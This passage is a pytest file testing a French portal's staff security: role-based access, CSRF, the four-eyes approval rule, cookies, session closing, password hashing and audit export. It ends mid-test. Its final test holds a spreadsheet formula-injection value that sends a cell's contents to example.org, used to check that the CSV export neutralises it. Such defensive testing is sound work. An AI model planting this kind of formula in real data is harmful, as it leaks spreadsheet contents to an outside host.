"""The portal's security, through its HTTP interface (FastAPI's TestClient): every staff route refuses
anonymous visitors and missing permissions, drafts and rejected revisions never reach a public URL, the
four-eyes rule, CSRF, cookie flags, sessions closed by a password change or a disabling, Argon2id hashes
only — and an audit line for each refusal (a counter for an anonymous one). Throttling, logout and proxies:
tests/test_portal_sessions.py."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import re
import stat
import subprocess
import sys
import uuid
from pathlib import Path

import pytest
import sqlalchemy as sa
from fastapi import Request
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient
from starlette.routing import Route

from flows.edition.publish import store
from flows.notices import audit
from flows.notices.tables import audit_log, users
from flows.portal import accounts, refusals
from flows.portal.runs import RunView
from flows.portal.staff import LOGIN_REFUSED
from flows.portal.web import create_app
from tests.helpers import REGION
from tests.portal_helpers import (
    ADMIN,
    APPROVER_ACCOUNT,
    CORRECTION,
    EDITOR_ACCOUNT,
    LAUNCHER,
    PASSWORD,
    FakeRuns,
    add_accounts,
    audit_lines,
    copy_outputs,
    csrf_of,
    log_in,
)

DRAFT = 2  # 2024 r2: the correction awaiting sign-off


@pytest.fixture(scope="module")
def shared(portal_editions: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The module's copy of the editions (built once per session); tests that change them copy it again."""
    return copy_outputs(portal_editions, tmp_path_factory.mktemp("portal-security") / "outputs")


@pytest.fixture
def private(shared: Path, tmp_path: Path) -> Path:
    return copy_outputs(shared, tmp_path / "outputs")


@pytest.fixture
def fresh(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty store with the staff accounts (no build needed: logins, sessions, throttling)."""
    monkeypatch.delenv("FIR_PORTAL_SECRET", raising=False)
    outputs = tmp_path / "outputs"
    add_accounts(outputs)
    return outputs


def _client(outputs: Path, **options: object) -> TestClient:
    return TestClient(create_app(outputs), **options)  # type: ignore[arg-type]


def _staff_routes(client: TestClient) -> list[tuple[str, str]]:
    """Every (method, path) the app serves under /staff, its parameters filled with the draft's."""
    values = {
        "region": REGION,
        "year": "2024",
        "revision": str(DRAFT),
        "page": "1",
        "run_id": str(uuid.uuid4()),
        "name": EDITOR_ACCOUNT,
    }
    found = []
    for route in client.app.routes:  # type: ignore[attr-defined]
        if not isinstance(route, APIRoute | Route) or not route.path.startswith("/staff"):
            continue
        path = re.sub(r"\{(\w+)\}", lambda m: values[m.group(1)], route.path)
        found += [(method, path) for method in sorted(route.methods or ()) if method != "HEAD"]
    assert len(found) >= 15, found
    return found


def _plain(text: str) -> str:
    """French numbers' narrow no-break spaces as plain spaces."""
    return text.replace("\u202f", " ").replace("\u00a0", " ")


def _is_file(path: str) -> bool:
    return path.endswith((".png", "/pdf", ".csv"))


def _no_file_bytes(answer) -> None:
    assert not answer.content.startswith((b"%PDF", b"\x89PNG")), answer.request.url


def _anonymous_refusals(outputs: Path) -> dict[tuple[str, str], int]:
    """The counters of anonymous refusals (flows/portal/refusals.py): (address, detail) → refusals."""
    found: dict[tuple[str, str], int] = {}
    for count in refusals.latest(store.open_catalogue(outputs).engine, 10_000):
        found[(count.address, count.detail)] = found.get((count.address, count.detail), 0) + count.count
    return found


def _anonymous_total(outputs: Path) -> int:
    """Every anonymous refusal counted from the tests' client, whatever its reason."""
    return sum(n for (address, _), n in _anonymous_refusals(outputs).items() if address == "testclient")


def test_every_staff_route_refuses_an_anonymous_visitor(shared: Path):
    """Pages redirect to the login form, files 401; a form sent without a session's token is refused as a
    forgery first (403), and with the anonymous session's token (the login page's) as needing a login (401)."""
    client = _client(shared)
    token = csrf_of(client.get("/staff/login").text)  # the anonymous session the login page opened
    before = len(audit_lines(shared, audit.ACCESS))
    counted = _anonymous_total(shared)
    refused = forged = 0
    for method, path in _staff_routes(client):
        if path == "/staff/login":
            continue
        answer = TestClient(client.app).request(method, path, follow_redirects=False)
        _no_file_bytes(answer)
        if path == "/staff":
            assert (answer.status_code, answer.headers["location"]) == (303, "/staff/"), path
        elif method == "GET" and not _is_file(path):
            assert answer.status_code == 303, (method, path, answer.status_code)
            assert answer.headers["location"].startswith("/staff/login"), path
            refused += 1
        elif method == "GET":
            assert answer.status_code == 401, (method, path, answer.status_code)
            assert "Connexion requise" in answer.text
            refused += 1
        else:
            assert answer.status_code == 403, (method, path, answer.status_code)
            assert "Formulaire expiré ou invalide" in answer.text
            logged_out = client.request(method, path, data={"csrf": token}, follow_redirects=False)
            assert logged_out.status_code == 401, (method, path, logged_out.status_code)
            assert "Connexion requise" in logged_out.text
            refused += 1
            forged += 1
    # each refusal counted (per hour, address and URL: a counter keeps its last reason), none an audit line
    assert _anonymous_total(shared) - counted == refused + forged and forged > 0
    assert len(audit_lines(shared, audit.ACCESS)) == before


def test_an_editor_sees_drafts_but_neither_sign_off_nor_administration(shared: Path):
    client = _client(shared)
    csrf = log_in(client, EDITOR_ACCOUNT)
    before = len(audit_lines(shared, audit.ACCESS))
    forbidden = 0
    routes = _staff_routes(client)
    for method, path in sorted(routes, key=lambda r: r[1] == "/staff/logout"):  # logging out last
        if (method, path) == ("POST", "/staff/login"):
            continue  # a refused login would count against the tests' address (throttling)
        data = {"csrf": csrf} if method == "POST" else None
        answer = client.request(method, path, data=data, follow_redirects=False)
        if path.startswith("/staff/admin") or path.endswith(("/approve", "/reject")):
            assert answer.status_code == 403, (method, path, answer.status_code)
            assert "Accès refusé" in answer.text
            _no_file_bytes(answer)
            forbidden += 1
        else:
            assert answer.status_code not in (401, 403), (method, path, answer.status_code)
    assert len(audit_lines(shared, audit.ACCESS)) - before == forbidden
    assert store.open_catalogue(shared).revision(REGION, 2024, DRAFT)["status"] == store.DRAFT


def test_the_print_file_of_a_draft_is_not_offered_before_approval(shared: Path):
    """Unmarked, the print shop's file waits for the approval: only the marked copy is offered before."""
    client = _client(shared)
    log_in(client, EDITOR_ACCOUNT)
    assert "print" in store.open_catalogue(shared).revision(REGION, 2024, DRAFT)  # recorded with the draft
    assert "Fichier pour l'imprimeur" not in client.get(f"/staff/drafts/{REGION}/2024/{DRAFT}").text
    answer = client.get(f"/staff/drafts/{REGION}/2024/{DRAFT}/impression/pdf")
    assert answer.status_code == 404
    _no_file_bytes(answer)


def test_an_editor_reads_the_draft_its_images_and_its_marked_pdf(shared: Path):
    client = _client(shared)
    log_in(client, EDITOR_ACCOUNT)
    entry = store.open_catalogue(shared).revision(REGION, 2024, DRAFT)
    page = client.get(f"/staff/drafts/{REGION}/2024/{DRAFT}")
    assert page.status_code == 200
    text = _plain(page.text)
    assert "153 285 611 €" in text and "153 385 611 €" in text and "pages 36 et 38" in text
    assert "Approuver" not in text  # an editor does not sign off
    image = client.get(f"/staff/drafts/{REGION}/2024/{DRAFT}/pages/37.png")
    assert image.headers["content-type"] == "image/png" and image.content.startswith(b"\x89PNG")
    assert (shared / ".cache" / "previews" / entry["draft"]["sha256"] / "p37-r60.png").is_file()
    assert client.get(f"/staff/drafts/{REGION}/2024/{DRAFT}/pages/99.png").status_code == 404
    pdf = client.get(f"/staff/drafts/{REGION}/2024/{DRAFT}/pdf")
    assert hashlib.sha256(pdf.content).hexdigest() == entry["draft"]["sha256"]  # the marked copy, never the other
    download = audit_lines(shared, audit.DRAFT_DOWNLOAD)[0]
    assert (download.actor, download.target) == (EDITOR_ACCOUNT, f"{REGION} 2024 r{DRAFT}")
    assert client.get(f"/staff/drafts/{REGION}/2024/7").status_code == 404
    assert client.get(f"/staff/drafts/{REGION}/1999/1").status_code == 404


def _public_urls(outputs: Path, year: int, number: int) -> list[str]:
    entry = store.open_catalogue(outputs).revision(REGION, year, number)
    assert entry is not None
    digests = [entry["pdf"]["sha256"], entry["archive"]["sha256"], entry["draft"]["sha256"]]
    base = f"/download/{REGION}/{year}"
    return [
        f"{base}/{number}",
        f"{base}/{number}/archive",
        f"/cover/{REGION}/{year}/{number}.png",
        *[f"{base}/{digest}" for digest in digests],
        *[f"/cover/{REGION}/{year}/{digest}.png" for digest in digests],
        f"/{REGION}/{year}/.objects/{digests[0]}",
        f"/{REGION}/{year}/projets/r{number}/fir-{REGION}-{year}-projet.pdf",
        f"/{REGION}/{year}/revisions/r{number}/fir-{REGION}-{year}.pdf",
    ]


def _assert_private(client: TestClient, outputs: Path, year: int, number: int, reason: str) -> None:
    for url in _public_urls(outputs, year, number):
        answer = client.get(url)
        assert answer.status_code == 404, (url, answer.status_code)
        _no_file_bytes(answer)
    page = client.get("/").text
    assert reason not in page and f"{year}-Hauts-de-France-r{number}" not in page


def test_a_draft_is_on_no_public_url(shared: Path):
    client = _client(shared)
    _assert_private(client, shared, 2024, DRAFT, CORRECTION)
    _assert_private(client, shared, 2018, 1, "FIR 2018")
    assert client.get(f"/manifest/{REGION}/2018").status_code == 404
    assert [r["revision"] for r in client.get(f"/manifest/{REGION}/2024").json()["revisions"]] == [1]
    assert client.get(f"/download/{REGION}/2024/latest").content == client.get(f"/download/{REGION}/2024/1").content


def test_the_public_cover_is_page_one_of_the_published_pdf_cached_by_digest(shared: Path):
    client = _client(shared)
    entry = store.open_catalogue(shared).revision(REGION, 2024, 1)
    cover = client.get(f"/cover/{REGION}/2024/1.png")
    assert cover.headers["content-type"] == "image/png" and cover.content.startswith(b"\x89PNG")
    assert (shared / ".cache" / "previews" / entry["pdf"]["sha256"] / "p1-r40.png").read_bytes() == cover.content
    assert 'alt="Couverture de la brochure FIR 2024 Hauts-de-France, révision 1"' in client.get("/").text


def test_a_rejected_revision_stays_private_and_staff_still_read_it(private: Path):
    client = _client(private)
    csrf = log_in(client, APPROVER_ACCOUNT)
    url = f"/staff/drafts/{REGION}/2024/{DRAFT}"
    empty = client.post(f"{url}/reject", data={"csrf": csrf, "comment": " "}, follow_redirects=False)
    assert empty.status_code == 409 and "commentaire obligatoire" in empty.text
    answer = client.post(f"{url}/reject", data={"csrf": csrf, "comment": "montant à vérifier"}, follow_redirects=False)
    assert answer.status_code == 303
    assert store.open_catalogue(private).revision(REGION, 2024, DRAFT)["status"] == store.REJECTED
    page = client.get(url)
    assert page.status_code == 200 and "rejetée" in page.text and "montant à vérifier" in page.text
    assert client.get(f"{url}/pages/1.png").status_code == 200
    _assert_private(TestClient(client.app), private, 2024, DRAFT, CORRECTION)
    lines = audit_lines(private, audit.REJECT)
    assert [(e.outcome, e.actor) for e in lines] == [(audit.OK, APPROVER_ACCOUNT), (audit.REFUSED, APPROVER_ACCOUNT)]


def test_an_approver_publishes_a_draft_and_the_public_gets_its_bytes(private: Path):
    client = _client(private)
    csrf = log_in(client, APPROVER_ACCOUNT)
    answer = client.post(
        f"/staff/drafts/{REGION}/2024/{DRAFT}/approve", data={"csrf": csrf, "comment": ""}, follow_redirects=False
    )
    assert answer.status_code == 303
    entry = store.open_catalogue(private).revision(REGION, 2024, DRAFT)
    assert (entry["status"], entry["decided_by"]) == (store.PUBLISHED, APPROVER_ACCOUNT)
    public = TestClient(client.app)
    assert hashlib.sha256(public.get(f"/download/{REGION}/2024/{DRAFT}").content).hexdigest() == entry["pdf"]["sha256"]
    page = _plain(public.get("/").text)
    assert "Cette révision corrige 4 chiffres :" in page
    assert "<li>Investissements en ES et ESMS : 153 285 611 € devient" in page
    assert public.get(f"/download/{REGION}/2024/{entry['draft']['sha256']}").status_code == 404


def test_an_editor_cannot_approve(shared: Path):
    client = _client(shared)
    csrf = log_in(client, EDITOR_ACCOUNT)
    answer = client.post(f"/staff/drafts/{REGION}/2024/{DRAFT}/approve", data={"csrf": csrf})
    assert answer.status_code == 403
    line = audit_lines(shared, audit.ACCESS)[0]
    assert (line.actor, line.outcome, line.target) == (
        EDITOR_ACCOUNT,
        audit.REFUSED,
        f"POST /staff/drafts/{REGION}/2024/{DRAFT}/approve",
    )
    assert line.detail == "réservé à qui peut approuver ou rejeter les projets (compte rédacteur)"
    assert store.open_catalogue(shared).revision(REGION, 2024, DRAFT)["status"] == store.DRAFT


def test_the_launcher_cannot_approve_its_own_draft(shared: Path):
    client = _client(shared)
    csrf = log_in(client, LAUNCHER)
    page = client.get(f"/staff/drafts/{REGION}/2024/{DRAFT}").text
    assert "Vous avez lancé cette construction" in page
    answer = client.post(f"/staff/drafts/{REGION}/2024/{DRAFT}/approve", data={"csrf": csrf, "comment": "ok"})
    assert answer.status_code == 403 and "règle des quatre yeux" in answer.text
    line = audit_lines(shared, audit.APPROVE)[0]
    assert (line.actor, line.outcome, line.target) == (LAUNCHER, audit.REFUSED, f"{REGION} 2024 r{DRAFT}")
    assert store.open_catalogue(shared).revision(REGION, 2024, DRAFT)["status"] == store.DRAFT


def test_the_draft_s_own_edition_toml_does_not_let_its_launcher_approve(private: Path):
    """2018 r1 was built from an edition.toml saying `[approval] self_approval = true`: ignored (issue 24,
    point 12); the refusal says who may allow it."""
    client = _client(private)
    csrf = log_in(client, LAUNCHER)
    assert "Vous avez lancé cette construction" in client.get(f"/staff/drafts/{REGION}/2018/1").text
    answer = client.post(f"/staff/drafts/{REGION}/2018/1/approve", data={"csrf": csrf}, follow_redirects=False)
    assert answer.status_code == 403 and "règle des quatre yeux" in answer.text
    assert "fir reglages" in answer.text and "Réglages" in answer.text
    assert store.open_catalogue(private).revision(REGION, 2018, 1)["status"] == store.DRAFT
    line = audit_lines(private, audit.APPROVE)[0]
    assert (line.actor, line.outcome, line.target) == (LAUNCHER, audit.REFUSED, f"{REGION} 2018 r1")


def test_on_the_command_line_too_the_launcher_cannot_approve_and_check_says_the_setting_is_ignored(
    portal_editions: Path, private: Path
):
    """The same draft, `fir approve` by the system user who launched it: refused; its report, and `fir check`
    on the inputs it was built from, say that edition.toml's setting is ignored and where it now lives."""
    approve = [sys.executable, "-m", "flows.cli", "approve", REGION, "2018", "1", "--outputs", str(private)]
    mine = subprocess.run(approve, capture_output=True, text=True, timeout=120, env={**os.environ, "LOGNAME": LAUNCHER})
    assert mine.returncode == 2 and "règle des quatre yeux" in mine.stderr and "Traceback" not in mine.stderr
    assert store.open_catalogue(private).revision(REGION, 2018, 1)["status"] == store.DRAFT
    line = audit_lines(private, audit.APPROVE)[0]
    assert (line.actor, line.outcome, line.address[:17]) == (LAUNCHER, audit.REFUSED, "ligne de commande")
    ignored = "Le réglage [approval] self_approval d'edition.toml est ignoré"
    report = "\n".join(store.open_catalogue(private).revision(REGION, 2018, 1)["report"])
    assert ignored in report and f"fir reglages --region {REGION} --auto-approbation oui" in report
    inputs = portal_editions.parent / "inputs"
    check = [sys.executable, "-m", "flows.cli", "check", "--region", REGION, "--year", "2018", "--inputs", str(inputs)]
    checked = subprocess.run([*check, "--outputs", str(private)], capture_output=True, text=True, timeout=300)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert (
        ignored in checked.stdout and f"{REGION}/2018/edition.toml, réglage [approval] self_approval" in checked.stdout
    )


def test_an_administrator_s_setting_lets_the_launcher_approve_and_is_audited(private: Path):
    admin = _client(private)
    csrf = log_in(admin, ADMIN)
    page = admin.get("/staff/admin/reglages")
    assert page.status_code == 200 and REGION in page.text and "interdite (quatre yeux)" in page.text
    # the region as its editions name it, read through the catalogue's API (flows/edition/publish/regions.py)
    assert '<td class="nowrap" data-label="Région">Hauts-de-France</td>' in page.text
    answer = admin.post(
        "/staff/admin/reglages",
        data={"csrf": csrf, "region": REGION, "auto_approbation": "oui"},
        follow_redirects=False,
    )
    assert (answer.status_code, answer.headers["location"]) == (303, "/staff/admin/reglages?fait=1")
    shown = admin.get(answer.headers["location"]).text
    assert "Réglage enregistré" in shown and "<strong>autorisée</strong>" in shown and "par A Admin" in shown
    [line] = audit_lines(private, audit.SETTING)
    assert (line.actor, line.target, line.outcome, line.address) == (ADMIN, REGION, audit.OK, "testclient")
    assert line.detail == "approbation par l'auteur du projet : interdite (règle des quatre yeux) → autorisée"

    client = _client(private)
    csrf = log_in(client, LAUNCHER)
    assert "Vous avez lancé cette construction" not in client.get(f"/staff/drafts/{REGION}/2018/1").text
    answer = client.post(f"/staff/drafts/{REGION}/2018/1/approve", data={"csrf": csrf}, follow_redirects=False)
    assert answer.status_code == 303
    assert store.open_catalogue(private).revision(REGION, 2018, 1)["decided_by"] == LAUNCHER
    assert audit_lines(private, audit.APPROVE)[0].outcome == audit.OK
    assert "FIR-2018-Hauts-de-France-r1.pdf" in TestClient(client.app).get("/").text


@pytest.mark.parametrize("who", [EDITOR_ACCOUNT, APPROVER_ACCOUNT, None])
def test_the_setting_is_changed_by_an_administrator_only(private: Path, who: str | None):
    client = _client(private)
    csrf = log_in(client, who) if who else csrf_of(client.get("/staff/login").text)
    data = {"csrf": csrf, "region": REGION, "auto_approbation": "oui"}
    answer = client.post("/staff/admin/reglages", data=data, follow_redirects=False)
    assert answer.status_code == (403 if who else 401)
    assert client.get("/staff/admin/reglages", follow_redirects=False).status_code == (403 if who else 303)
    from flows.edition.publish import settings

    assert settings.self_approval(store.open_catalogue(private).engine, REGION) is False
    if who:
        line = audit_lines(private, audit.ACCESS)[1]  # the POST's refusal, then the page's
        assert (line.actor, line.outcome, line.target) == (who, audit.REFUSED, "POST /staff/admin/reglages")
        assert line.detail.startswith("réservé à qui peut changer les réglages de l'agence (compte ")
    else:  # anonymous: counted (flows/portal/refusals.py)
        targets = {c.target for c in refusals.latest(store.open_catalogue(private).engine, 10_000)}
        assert {"POST /staff/admin/reglages", "GET /staff/admin/reglages"} <= targets
    assert audit_lines(private, audit.SETTING) == []


@pytest.mark.parametrize("token", [None, "forged-token"])
def test_the_setting_is_not_changed_without_the_session_token(private: Path, token: str | None):
    client = _client(private)
    log_in(client, ADMIN)
    data = {"region": REGION, "auto_approbation": "oui"} | ({"csrf": token} if token else {})
    answer = client.post("/staff/admin/reglages", data=data, follow_redirects=False)
    assert answer.status_code == 403 and "Formulaire expiré ou invalide" in answer.text
    from flows.edition.publish import settings

    assert settings.self_approval(store.open_catalogue(private).engine, REGION) is False
    line = audit_lines(private, audit.ACCESS)[0]
    assert (line.actor, line.detail) == (ADMIN, "jeton CSRF absent ou faux")
    assert audit_lines(private, audit.SETTING) == []


def test_an_unknown_region_or_choice_changes_nothing(private: Path):
    client = _client(private)
    csrf = log_in(client, ADMIN)
    for region, choice in (("atlantide", "oui"), (REGION, "peut-etre")):
        data = {"csrf": csrf, "region": region, "auto_approbation": choice}
        answer = client.post("/staff/admin/reglages", data=data)
        assert answer.status_code == 400 and "Réglage non changé" in answer.text
    assert [e.outcome for e in audit_lines(private, audit.SETTING)] == [audit.REFUSED, audit.REFUSED]
    from flows.edition.publish import settings

    assert settings.listing(store.open_catalogue(private).engine) == []


@pytest.mark.parametrize("token", [None, "", "forged-token"])
def test_a_post_without_the_session_token_is_refused(shared: Path, token: str | None):
    client = _client(shared)
    log_in(client, APPROVER_ACCOUNT)
    data = {"comment": "ok"} | ({"csrf": token} if token is not None else {})
    answer = client.post(f"/staff/drafts/{REGION}/2024/{DRAFT}/approve", data=data)
    assert answer.status_code == 403 and "Formulaire expiré ou invalide" in answer.text
    line = audit_lines(shared, audit.ACCESS)[0]
    assert (line.actor, line.detail) == (APPROVER_ACCOUNT, "jeton CSRF absent ou faux")
    assert store.open_catalogue(shared).revision(REGION, 2024, DRAFT)["status"] == store.DRAFT


def _app_with_a_new_route(outputs: Path, method: str, path: str) -> tuple[TestClient, list[str]]:
    """The portal's app with one more route, written without any CSRF code (as a developer might)."""
    app = create_app(outputs)
    received: list[str] = []

    @app.api_route(path, methods=[method], name="essai")
    async def essai(request: Request) -> dict[str, str]:
        form = await request.form()
        received.append(str(form.get("montant", "")))
        return {"fait": "oui"}

    return TestClient(app), received


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE"])
def test_a_new_route_without_any_csrf_code_refuses_a_request_without_the_token(fresh: Path, method: str):
    """Issue 24, point 18: CSRF is checked for every method that changes something, on every route."""
    client, received = _app_with_a_new_route(fresh, method, "/essai")
    answer = client.request(method, "/essai", data={"montant": "1"})
    assert answer.status_code == 403 and "Formulaire expiré ou invalide" in answer.text
    assert _anonymous_refusals(fresh) == {("testclient", "jeton CSRF absent ou faux"): 1}  # anonymous: counted
    [count] = refusals.latest(store.open_catalogue(fresh).engine, 10)
    assert (count.action, count.target) == (audit.ACCESS, f"{method} /essai")

    staff, received = _app_with_a_new_route(fresh, method, "/staff/essai")
    token = log_in(staff, ADMIN)
    for refused in ({"montant": "2"}, {"montant": "3", "csrf": "forged"}):
        assert staff.request(method, "/staff/essai", data=refused).status_code == 403
    assert received == []
    assert staff.request(method, "/staff/essai", data={"montant": "4", "csrf": token}).json() == {"fait": "oui"}
    headers = {"X-CSRF-Token": token}
    assert staff.request(method, "/staff/essai", data={"montant": "5"}, headers=headers).status_code == 200
    assert received == ["4", "5"]  # the form reaches the route whole, after its check
    assert [e.actor for e in audit_lines(fresh, audit.ACCESS)[:2]] == [ADMIN, ADMIN]


def test_only_a_route_named_with_its_reason_is_exempt(fresh: Path, monkeypatch: pytest.MonkeyPatch):
    from flows.portal import csrf

    assert csrf.EXEMPT == {}  # none today: the login form carries its anonymous session's token
    monkeypatch.setitem(csrf.EXEMPT, "essai", "un test : un appel sans session")
    client, received = _app_with_a_new_route(fresh, "POST", "/essai")
    assert client.post("/essai", data={"montant": "1"}).status_code == 200 and received == ["1"]
    other = create_app(fresh)

    @other.post("/autre")
    def autre() -> dict[str, str]:
        return {"fait": "oui"}

    assert TestClient(other).post("/autre").status_code == 403  # another name: checked
    monkeypatch.setitem(csrf.EXEMPT, "essai", " ")
    with pytest.raises(ValueError, match="sans raison"):
        TestClient(create_app(fresh)).post("/essai")


def test_an_oversized_form_is_refused_before_any_route(fresh: Path):
    client = _client(fresh)
    token = csrf_of(client.get("/staff/login").text)
    answer = client.post("/staff/login", data={"csrf": token, "name": "x" * (2 << 20), "password": "y"})
    assert answer.status_code == 413 and "Formulaire trop volumineux" in answer.text
    assert audit_lines(fresh, audit.LOGIN) == []


def test_the_login_form_needs_its_token_too(fresh: Path):
    client = _client(fresh)
    client.get("/staff/login")
    answer = client.post("/staff/login", data={"name": ADMIN, "password": PASSWORD})
    assert answer.status_code == 403
    assert _anonymous_refusals(fresh) == {("testclient", "jeton CSRF absent ou faux"): 1}
    assert client.get("/staff/", follow_redirects=False).status_code == 303  # not logged in


def _session_cookie(answer) -> str:
    found = [v for k, v in answer.headers.multi_items() if k == "set-cookie" and v.startswith("fir_session=")]
    assert found
    return found[-1]


def test_the_session_cookie_is_httponly_samesite_and_secure_over_https(fresh: Path, monkeypatch: pytest.MonkeyPatch):
    for base_url, secure in (("http://testserver", False), ("https://testserver", True)):
        client = _client(fresh, base_url=base_url)
        form = client.get("/staff/login")
        cookie = _session_cookie(form).lower()
        assert "httponly" in cookie and "samesite=lax" in cookie and "path=/staff" in cookie
        assert ("; secure" in cookie) is secure
        answer = client.post(
            "/staff/login",
            data={"name": ADMIN, "password": PASSWORD, "csrf": csrf_of(form.text)},
            follow_redirects=False,
        )
        cookie = _session_cookie(answer).lower()
        assert "httponly" in cookie and "samesite=lax" in cookie and ("; secure" in cookie) is secure
    monkeypatch.setenv("FIR_PORTAL_HTTPS", "1")  # TLS ended by a proxy that does not say so
    assert "; secure" in _session_cookie(_client(fresh).get("/staff/login")).lower()


def test_an_altered_or_foreign_cookie_is_no_session(fresh: Path, monkeypatch: pytest.MonkeyPatch):
    from flows.portal.sessions import COOKIE, Sessions, new_session

    client = _client(fresh)
    log_in(client, ADMIN)
    genuine = client.cookies.get(COOKIE)
    assert client.get("/staff/", follow_redirects=False).status_code == 200
    engine = store.open_catalogue(fresh).engine
    forged = Sessions("not the portal's secret", engine)._serializer.dumps({"c": "x", "a": ADMIN, "v": 1, "k": "x"})
    for value in (genuine[:-2] + ("AA" if not genuine.endswith("AA") else "BB"), forged):
        other = _client(fresh)
        other.cookies.set(COOKIE, value, path="/staff")
        assert other.get("/staff/", follow_redirects=False).status_code == 303
    assert new_session().csrf != new_session().csrf


def test_the_secret_is_kept_private_and_never_shown(fresh: Path):
    client = _client(fresh)
    secret_file = fresh / ".portal-secret"
    assert stat.S_IMODE(secret_file.stat().st_mode) == 0o600
    secret = secret_file.read_text().strip()
    assert len(secret) >= 40
    log_in(client, ADMIN)
    for url in ("/staff/", "/staff/admin/accounts", "/staff/admin/audit", "/staff/admin/audit.csv", "/"):
        text = client.get(url).text
        assert secret not in text and PASSWORD not in text


def test_an_environment_secret_is_used_when_given(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("FIR_PORTAL_SECRET", "secret-from-the-service-configuration")
    outputs = tmp_path / "outputs"
    add_accounts(outputs)
    log_in(_client(outputs), ADMIN)
    assert not (outputs / ".portal-secret").exists()


def _try(client: TestClient, name: str, password: str):
    form = client.get("/staff/login")
    return client.post(
        "/staff/login", data={"name": name, "password": password, "csrf": csrf_of(form.text)}, follow_redirects=False
    )


def _alert(answer) -> str:
    return re.search(r'role="alert">([^<]+)<', answer.text).group(1)


SAME = LOGIN_REFUSED.replace("'", "&#39;")  # as the page escapes it


def test_an_unknown_name_a_wrong_password_and_a_disabled_account_read_the_same(fresh: Path):
    engine = store.open_catalogue(fresh).engine
    accounts.add(engine, "d.disabled", "editor", PASSWORD)
    accounts.disable(engine, "d.disabled")
    client = _client(fresh)
    for name, password in (("nobody", PASSWORD), ("d.disabled", PASSWORD), (ADMIN, "wrong password!")):
        answer = _try(client, name, password)
        assert (answer.status_code, _alert(answer)) == (401, SAME)
    assert audit_lines(fresh, audit.LOGIN) == []  # anonymous: counted, per name typed
    counts = refusals.latest(store.open_catalogue(fresh).engine)
    assert sorted((c.target, c.count, c.detail) for c in counts if c.action == audit.LOGIN) == [
        (ADMIN, 1, "identifiants refusés"),
        ("d.disabled", 1, "identifiants refusés"),
        ("nobody", 1, "identifiants refusés"),
    ]


def test_a_password_change_or_a_disabling_closes_open_sessions(fresh: Path):
    engine = store.open_catalogue(fresh).engine
    editor, admin = _client(fresh), _client(fresh)
    log_in(editor, EDITOR_ACCOUNT)
    csrf = log_in(admin, ADMIN)
    assert editor.get("/staff/", follow_redirects=False).status_code == 200
    reset = admin.post(
        f"/staff/admin/accounts/{EDITOR_ACCOUNT}/password",
        data={"csrf": csrf, "password": "another long passphrase"},
        follow_redirects=False,
    )
    assert reset.status_code == 303
    assert editor.get("/staff/", follow_redirects=False).status_code == 303
    assert editor.get(f"/staff/drafts/{REGION}/2024/1/pdf").status_code == 401
    log_in(editor, EDITOR_ACCOUNT, "another long passphrase")
    assert editor.get("/staff/", follow_redirects=False).status_code == 200
    accounts.disable(engine, EDITOR_ACCOUNT)  # from the command line: the web session is closed all the same
    assert editor.get("/staff/", follow_redirects=False).status_code == 303
    details = [e.detail for e in audit_lines(fresh, audit.ACCOUNT)]
    assert details == ["mot de passe changé"]
    assert all("another long passphrase" not in e.detail for e in audit_lines(fresh))


def test_accounts_created_in_the_portal_keep_only_argon2id_hashes(fresh: Path):
    client = _client(fresh)
    csrf = log_in(client, ADMIN)
    new_password = "a brand new staff passphrase"
    answer = client.post(
        "/staff/admin/accounts",
        data={
            "csrf": csrf,
            "name": "m.dupont",
            "display_name": "Marie Dupont",
            "role": "approver",
            "email": "m.dupont@example.org",
            "password": new_password,
        },
        follow_redirects=False,
    )
    assert answer.status_code == 303
    weak = client.post(
        "/staff/admin/accounts",
        data={"csrf": csrf, "name": "x.weak", "role": "editor", "password": "short"},
    )
    assert weak.status_code == 400 and "mot de passe trop court" in weak.text
    with store.open_catalogue(fresh).engine.connect() as conn:
        hashes = list(conn.scalars(sa.select(users.c.password_hash)))
        details = " ".join(conn.scalars(sa.select(audit_log.c.detail)))
    assert len(hashes) == 5 and all(h.startswith("$argon2id$") for h in hashes)
    assert new_password not in details and PASSWORD not in details
    lines = audit_lines(fresh, audit.ACCOUNT)
    assert [(e.target, e.outcome) for e in lines] == [("x.weak", audit.REFUSED), ("m.dupont", audit.OK)]
    assert "Marie Dupont" in client.get("/staff/admin/accounts").text
    log_in(_client(fresh), "m.dupont", new_password)


def test_an_admin_disables_an_account_but_not_its_own(fresh: Path):
    editor = _client(fresh)
    log_in(editor, EDITOR_ACCOUNT)
    client = _client(fresh)
    csrf = log_in(client, ADMIN)
    own = client.post(f"/staff/admin/accounts/{ADMIN}/disable", data={"csrf": csrf})
    assert own.status_code == 409
    done = client.post(f"/staff/admin/accounts/{EDITOR_ACCOUNT}/disable", data={"csrf": csrf}, follow_redirects=False)
    assert done.status_code == 303
    assert accounts.get(store.open_catalogue(fresh).engine, EDITOR_ACCOUNT).disabled
    assert editor.get("/staff/", follow_redirects=False).status_code == 303  # its open session is closed
    assert client.post("/staff/admin/accounts/nobody/disable", data={"csrf": csrf}).status_code == 404
    outcomes = [(e.target, e.outcome) for e in audit_lines(fresh, audit.ACCOUNT)]
    assert outcomes == [("nobody", audit.REFUSED), (EDITOR_ACCOUNT, audit.OK), (ADMIN, audit.REFUSED)]


def test_the_audit_log_page_filters_and_exports(fresh: Path):
    client = _client(fresh)
    log_in(client, EDITOR_ACCOUNT)
    client.get("/staff/admin/audit")  # an editor: refused, and recorded
    client = _client(fresh)
    log_in(client, ADMIN)
    page = client.get("/staff/admin/audit", params={"action": "login"}).text
    assert "connexion" in page and "accès refusé</td>" not in page
    every = client.get("/staff/admin/audit").text
    assert "accès refusé" in every
    exported = client.get("/staff/admin/audit.csv", params={"action": "access"})
    assert exported.headers["content-type"].startswith("text/csv")
    rows = exported.content.decode("utf-8-sig").splitlines()
    assert rows[0].startswith("date (heure de Paris);qui;depuis;action")
    assert len(rows) == 2 and "accès refusé" in rows[1]


def test_a_formula_typed_as_a_login_name_is_exported_as_text(fresh: Path):
    """A refused login records the name typed; in the CSV export it never becomes a live formula."""
    typed = '=HYPERLINK("http://example.org/?"&A1,"x")'
    client = _client(fresh)
    csrf = log_in(client, ADMIN)
